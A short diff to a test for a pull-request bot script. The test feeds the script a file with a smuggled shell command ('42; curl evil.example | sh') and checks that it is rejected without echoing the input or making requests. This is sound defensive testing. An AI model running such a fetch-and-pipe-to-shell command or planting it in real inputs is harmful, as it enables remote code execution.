@@ -53,7 +53,8 @@ describe('scripts/pr-bot.ts', () => {
     await writeFile(file, '42; curl evil.example | sh\n');
     const { code, stderr, fake } = await script(['scripts/pr-bot.ts', '--pr-file', file], pr42);
     expect(code).toBe(2);
-    expect(stderr).toContain("pr-bot: pull request number '42; curl evil.exampl' is not a number");
+    expect(stderr).toContain(`pr-bot: the pull request number in ${file} is not a number`);
+    expect(stderr).not.toContain('curl');
     expect(fake.requests).toEqual([]);
   });
 
